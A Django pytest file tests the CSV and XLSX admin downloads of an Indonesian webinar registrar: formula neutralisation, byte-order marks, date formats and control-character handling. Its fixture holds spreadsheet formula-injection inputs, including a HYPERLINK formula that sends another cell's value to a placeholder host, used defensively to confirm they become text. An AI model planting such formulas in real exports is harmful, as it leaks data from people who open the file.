"""Every registrar download (registrations, attendance, certificates; CSV and XLSX), opened the way
Excel on Windows opens it: the field cases of formulas run from a cell, garbled characters without a
byte-order mark and a control character that broke the XLSX."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from tests.factories import make_registration, wita
from webinars.attendance.service import check_in, mark, record_durations
from webinars.certificates.issuing import run_issuing
from webinars.models import CertificateRun

pytestmark = pytest.mark.django_db

DOWNLOADS = ["/admin/pendaftaran/", "/admin/kehadiran/", "/admin/sertifikat/"]
# registrar-csv-formula-injection.txt: what a participant typed into the public form.
FORMULAS = {
    "full_name": '=HYPERLINK("http://contoh.invalid/?x="&B2,"Klik")',
    "agency": "+62 Dinas Uji",
    "position": "@SUM(1+1)",
}


def download(client, path, export_format):
    response = client.get(path, {"export": export_format})
    assert response.status_code == 200, path
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content):
    assert content.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content):
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


@pytest.fixture
def formulas(client, held_episode, now):
    """The field case, typed into the public form of an episode open for registration."""
    held_episode.start, held_episode.end = wita(2025, 8, 14, 9, 0), wita(2025, 8, 14, 12, 0)
    held_episode.save_revision().publish()
    response = client.post(
        f"{held_episode.url}daftar/",
        {
            **FORMULAS,
            "email": "formula1@example.go.id",
            "whatsapp": "081234567890",
            "participant_type": "non-asn",
            "regency": "bone",
            "consent": "on",
        },
    )
    assert response.status_code == 302
    return held_episode


def test_csv_cells_that_would_run_as_formulas_are_shown_as_text(client, registrar, formulas):
    client.force_login(registrar)
    header, row = csv_rows(download(client, "/admin/pendaftaran/", "csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Nama lengkap"] == "'" + FORMULAS["full_name"]
    assert cells["Instansi"] == "'+62 Dinas Uji"
    assert cells["Jabatan"] == "'@SUM(1+1)"
    assert cells["Nomor WhatsApp"] == "'+6281234567890"  # still reads as the number
    assert cells["Email"] == "formula1@example.go.id"  # nothing else is touched


def test_the_raw_csv_quotes_every_cell(client, registrar, formulas):
    # A spreadsheet splitting on ";" (an Indonesian Excel) still keeps each quoted cell whole.
    client.force_login(registrar)
    lines = download(client, "/admin/pendaftaran/", "csv").decode("utf-8-sig").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in lines)


def test_xlsx_keeps_them_as_text_cells_as_typed(client, registrar, formulas):
    client.force_login(registrar)
    workbook = load_workbook(io.BytesIO(download(client, "/admin/pendaftaran/", "xlsx")))
    header, row = workbook.active.iter_rows()
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    for label, typed in [("Nama lengkap", FORMULAS["full_name"]), ("Instansi", "+62 Dinas Uji")]:
        assert (cells[label].value, cells[label].data_type) == (typed, "s")


@pytest.fixture
def everyone(held_episode):
    """A registration, its attendance and its certificate, with text no spreadsheet would hold."""
    held_episode.title = "Belajar – “Adaptif” di Kafé"
    held_episode.save_revision().publish()
    registration = make_registration(
        held_episode,
        full_name="Ñoño Ümit Çelik",
        email="nono@contoh.go.id",
        participant_type="pns",
        regency="bone",
    )
    check_in(registration, now=wita(2025, 7, 24, 9, 1, 30))
    mark(registration)
    record_durations(held_episode, {registration.pk: 150})
    run_issuing(CertificateRun.objects.create(episode=held_episode).pk)
    return registration


@pytest.mark.parametrize("path", DOWNLOADS)
def test_csv_has_a_byte_order_mark_and_keeps_every_character(client, registrar, everyone, path):
    client.force_login(registrar)
    text = " ".join(" ".join(row) for row in csv_rows(download(client, path, "csv")))
    assert "Ñoño Ümit Çelik" in text
    if path != "/admin/sertifikat/":
        assert "Belajar – “Adaptif” di Kafé" in text


def test_values_read_as_the_admin_shows_them(client, registrar, everyone):
    client.force_login(registrar)
    header, row = csv_rows(download(client, "/admin/pendaftaran/", "csv"))
    cells = dict(zip(header, row, strict=True))
    assert (cells["Status"], cells["Jenis peserta"], cells["Kabupaten/kota"]) == (
        "Terdaftar",
        "PNS",
        "Kabupaten Bone",
    )
    assert cells["Episode"] == "Belajar – “Adaptif” di Kafé"
    assert cells["Dibatalkan pada"] == ""  # nothing, not "None"

    header, row = csv_rows(download(client, "/admin/kehadiran/", "csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["Presensi mandiri"] == "24-07-2025 09.01"  # WITA, to the minute
    assert (cells["Ditandai admin"], cells["Durasi (menit)"]) == ("Ya", "150")
    assert cells["Sumber"] == "presensi, laporan rapat, admin"

    header, row = csv_rows(download(client, "/admin/sertifikat/", "csv"))
    cells = dict(zip(header, row, strict=True))
    assert (cells["Status"], cells["Jenis peserta"]) == ("Sah", "PNS")


def test_xlsx_times_are_wita_date_cells_shown_the_indonesian_way(client, registrar, everyone):
    client.force_login(registrar)
    header, row = xlsx_rows(download(client, "/admin/kehadiran/", "xlsx"))
    cell = next(cell for title, cell in zip(header, row, strict=True) if title.value == "Presensi mandiri")
    assert cell.value == datetime.datetime(2025, 7, 24, 9, 1, 30)
    assert cell.number_format == 'dd-mm-yyyy hh"."mm'
    header, row = xlsx_rows(download(client, "/admin/sertifikat/", "xlsx"))
    cell = next(cell for title, cell in zip(header, row, strict=True) if title.value == "Tanggal acara")
    assert (cell.value, cell.number_format) == (datetime.date(2025, 7, 24), "dd-mm-yyyy")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("path", DOWNLOADS)
def test_a_control_character_stored_earlier_never_breaks_a_download(
    client, registrar, everyone, path, export_format
):
    # registrar-edit-vertical-tab-breaks-xlsx-export.txt: stored before the admin form refused it.
    type(everyone).objects.filter(pk=everyone.pk).update(
        full_name="Dewi\x0bLestari", agency="Dinas\x07Kominfo"
    )
    type(everyone.certificate).objects.filter(registration=everyone).update(full_name="Dewi\x0bLestari")
    client.force_login(registrar)
    content = download(client, path, export_format)
    rows = csv_rows(content) if export_format == "csv" else [[c.value for c in r] for r in xlsx_rows(content)]
    text = " ".join(str(value) for row in rows for value in row)
    assert "Dewi Lestari" in text and "\x0b" not in text
    if path == "/admin/pendaftaran/":
        assert "Dinas Kominfo" in text


@pytest.mark.parametrize("path", DOWNLOADS)
def test_the_download_menu_is_indonesian(client, registrar, everyone, path):
    client.force_login(registrar)
    html = client.get(path).content.decode()
    assert "Unduh XLSX" in html and "Unduh CSV" in html
    assert "Download" not in html
